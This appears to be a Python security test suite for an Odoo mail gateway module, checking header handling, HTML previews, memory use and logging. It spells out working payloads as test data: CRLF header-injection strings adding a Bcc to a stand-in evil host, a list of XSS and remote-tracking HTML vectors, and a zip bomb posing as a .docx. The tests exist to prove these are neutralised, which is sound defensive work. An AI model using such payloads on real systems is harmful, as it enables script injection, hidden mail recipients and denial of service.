"""What is in a mail does no harm: in headers, on screens, in memory, in logs."""

import io
import logging
import time
import tracemalloc
import zipfile

from odoo.tests import tagged
from odoo.tools import mute_logger

from .. import smtp_relay as relays
from ..common import ReviewCommon, patch

INJECTED = "Doe\r\nX-Evil: yes\r\nBcc: spy@evil.example\r\n\r\nEvil text"
ENCODED = "=?utf-8?q?Doe=0D=0AX-Evil:_yes?="

#: HTML of a mail, and what must be nowhere in its preview.
HARMFUL = [
    ("<script>alert(1)</script>", "alert"),
    ("<img src=x onerror=alert(1)>", "onerror"),
    ("<svg onload=alert(1)><script>alert(1)</script></svg>", "alert"),
    ("<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>", "onerror"),
    ("<a href='javascript:alert(1)'>x</a>", "javascript:"),
    ("<a href='JaVaScRiPt&colon;alert(1)'>x</a>", "javascript&colon;"),
    ("<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "data:text/html"),
    ("<iframe src='https://spy.example'></iframe>", "iframe"),
    ("<object data='https://spy.example'></object>", "spy.example"),
    ("<embed src='https://spy.example'>", "spy.example"),
    ("<form action='https://spy.example'><input name=password></form>", "spy.example"),
    ("<base href='https://spy.example/'>", "spy.example"),
    ("<meta http-equiv=refresh content='0;url=https://spy.example'>", "spy.example"),
    ("<link rel=stylesheet href='https://spy.example/x.css'>", "spy.example"),
    ("<style>@import 'https://spy.example/x.css'; * {display: none}</style>", "spy.example"),
    ("<p style='background:url(https://spy.example/x)'>x</p>", "spy.example"),
    ("<p style='position:fixed;top:0;width:100%'>x</p>", "position"),
    ("<img src='https://spy.example/x.png'>", "spy.example"),
    ("<img srcset='https://spy.example/x.png 2x'>", "spy.example"),
    ("<video poster='https://spy.example/x.png'></video>", "spy.example"),
    ("<table background='https://spy.example/x.png'><tr><td>x</td></tr></table>", "spy.example"),
    ("<div class='o_form_view o_blockUI'>x</div>", "o_blockUI"),
    ("<!--[if mso]><img src='https://spy.example/x'><![endif]-->", "spy.example"),
]


@tagged("post_install", "-at_install", "mail_catchall_gateway")
class TestSecurityContent(ReviewCommon):
    # ------------------------------------------------------------
    # HEADERS
    # ------------------------------------------------------------

    def leave(self, document, **values):
        """Let John write on a document, through a real server; return all that left."""
        relay = relays.Relay()
        with relays.running(self.env, relay) as port:
            self.relay.write({"smtp_host": relays.HOST, "smtp_port": port})
            document.with_user(self.john).message_post(
                body="Bicycles",
                message_type="comment",
                subtype_xmlid="mail.mt_comment",
                partner_ids=self.contact.ids,
                **values,
            )
            self.env["mail.mail"].process_email_queue()
        return [left for left in relay.left if "mary@customer.example" in left.recipients]

    @mute_logger("odoo.addons.mail.models.mail_mail")
    def test_nothing_that_somebody_names_adds_a_header_field(self):
        self.john.groups_id += self.env.ref("base.group_partner_manager")
        for signed in (False, True):
            self.mail_alias_domain.signed_reply_to = signed
            for text in (INJECTED, ENCODED):
                for place in ("user", "subject", "document", "company", "contact", "file"):
                    with self.subTest(place=place, text=text[:10], signed=signed):
                        self.assertNotInjected(place, text)

    def assertNotInjected(self, place, text):
        savepoint = self.env.cr.savepoint()
        try:
            self.contact = self._create_document("Mary", email="mary@customer.example")
            document, values = self._create_document("Order"), {}
            if place == "subject":
                values["subject"] = text
            elif place == "file":
                attachment = {"name": text, "raw": b"x", "mimetype": "text/plain"}
                attachments = self.env["ir.attachment"].with_user(self.john)
                values["attachment_ids"] = attachments.create(attachment).ids
            else:
                records = {
                    "user": self.john,
                    "document": document,
                    "company": self.john.company_id,
                    "contact": self.contact,
                }
                records[place].name = text
            sent = self.leave(document, **values)
            if not sent and (place, text) == ("user", ENCODED):
                return  # core refuses to send as such a name
            (left,) = sent
            self.assertEqual(left.recipients, ["mary@customer.example"])
            (author,) = left.mail["From"].addresses
            self.assertEqual(author.domain, self.domain)
            for part in left.mail.walk():
                self.assertNotIn("X-Evil", part)
                self.assertNotIn("Bcc", part)
        finally:
            savepoint.close(rollback=True)
            self.env.invalidate_all()
            self.env.registry.clear_cache()  # of names that were never committed

    def test_an_address_with_a_line_break_adds_no_recipient(self):
        for line, state in [
            (b"Reply-To: mary@customer.example\r\nBcc: spy@evil.example", "delivered"),
            (b"Reply-To: =?utf-8?q?mary=40x=0D=0ABcc=3A_spy=40evil.example?=", "delivered"),
            (b"Reply-To: mary@x\r\n@evil.example", "review"),
        ]:
            with self.subTest(line):
                mail = self.make_mail(self.john.alias_email).as_bytes()
                inbound = self.receive(mail.replace(b"From: ", line + b"\r\nFrom: "))
                self.assertEqual(inbound.state, state)
                if inbound.conversation_id:
                    self.post(inbound.conversation_id, self.john, "Hello")
                    (sent,) = self.sent_to("mary@customer.example")
                    self.assertNotIn("evil.example", sent.as_string())

    # ------------------------------------------------------------
    # SCREENS
    # ------------------------------------------------------------

    def test_the_preview_of_harmful_html_is_harmless(self):
        for number, (html, harmful) in enumerate(HARMFUL):
            with self.subTest(html):
                mail = self.make_mail(self.typo, message_id=f"<{number}@customer.example>")
                mail.set_content(f"<p>Hello</p>{html}", subtype="html")
                preview = self.receive(mail).with_user(self.manager).preview
                self.assertIn("Hello", preview)
                self.assertNotIn(harmful.lower(), preview.lower())

    def test_what_is_delivered_is_sanitized_as_core_does(self):
        for html, harmful in HARMFUL[:9]:
            with self.subTest(html):
                mail = self.make_mail(self.john.alias_email)
                mail.set_content(f"<p>Hello</p>{html}", subtype="html")
                message = self.receive(mail).mail_message_ids
                self.assertIn("Hello", message.body)
                self.assertNotIn(harmful.lower(), message.body.lower())

    def test_names_of_files_and_senders_are_text(self):
        mail = self.make_mail(self.typo, sender='"<script>x</script>" <mary@customer.example>')
        mail.add_attachment(b"x", "text", "plain", filename="<script>x</script>.txt")
        preview = self.receive(mail).with_user(self.manager).preview
        self.assertIn("&lt;script&gt;", preview)
        self.assertNotIn("<script", preview)

    # ------------------------------------------------------------
    # MEMORY
    # ------------------------------------------------------------

    def test_an_archive_that_grows_is_delivered_and_not_read(self):
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("word/document.xml", f"<x>{' ' * 300_000_000}</x>")
        mail = self.make_mail(self.john.alias_email)
        mail.add_attachment(stream.getvalue(), "application", "zip", filename="bomb.docx")
        tracemalloc.start()
        self.addCleanup(tracemalloc.stop)
        inbound = self.receive(mail)
        self.assertVerdict(inbound, "delivered", "user_alias")
        self.assertLess(tracemalloc.get_traced_memory()[1], 100_000_000)
        self.assertEqual(inbound.mail_message_ids.attachment_ids.raw, stream.getvalue())

    def test_no_text_of_a_source_is_kept_for_searching(self):
        source = self.receive(self.make_mail(self.typo))._get_source_attachments()
        self.assertFalse(source.index_content)

    # ------------------------------------------------------------
    # LOGS
    # ------------------------------------------------------------

    def test_no_log_line_shows_a_password_a_token_or_a_text(self):
        self.mail_alias_domain.signed_reply_to = True
        server = self._create_mailbox(
            server_type="imap", server="127.0.0.1", port=9, password="open sesame"
        )
        self.relay.write({"smtp_user": "relay", "smtp_pass": "open sesame"})
        text = "The words of Mary"
        ours = logging.getLogger("odoo.addons.mail_catchall_gateway")
        with self.assertLogs("odoo", logging.INFO) as caught, patch.object(ours, "level", 10):
            inbound = self.receive(self.make_mail(self.john.alias_email, text=text))
            self.post(inbound.conversation_id, self.john, text)
            (sent,) = self.sent_to("mary@customer.example")
            address = sent["Reply-To"].addresses[0].addr_spec
            answer = self.make_mail(address, text=text)
            self.assertEqual(self.receive(answer).conversation_id, inbound.conversation_id)
            altered = address.replace("@", "a@")
            self.receive(self.make_mail(altered, text=text))
            server.with_env(self.enter_committing())._fetch_catchall(time.monotonic() + 60)
        lines = "\n".join(caught.output)
        token = address.partition("@")[0].removeprefix("reply.")
        self.assertIn(inbound.message_id, lines)
        self.assertIn("Connection refused", lines)
        for secret in ("open sesame", text, token):
            self.assertNotIn(secret.lower(), lines.lower())
